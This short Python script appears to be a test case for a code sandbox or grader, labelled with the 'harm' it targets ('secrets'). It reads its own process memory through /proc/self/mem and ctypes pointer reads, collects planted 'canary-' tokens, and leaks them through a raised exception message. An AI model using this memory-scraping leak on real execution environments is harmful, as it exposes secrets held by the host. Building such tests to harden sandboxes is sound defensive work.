# tries: to read all memory that it was born with
# points: 0
# harm: secrets
import ctypes
import re

told = []
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            begin, end = (int(place, 16) for place in line.split()[0].split("-"))
            memory.seek(begin)
            told += re.findall(rb"canary-\w+", memory.read(end - begin))
except OSError as error:
    told.append(str(error))
here = id(told) & ~0xFFFFF
told += re.findall(rb"canary-\w+", ctypes.string_at(here, id(told) - here))
raise ValueError(str(told[:9]))
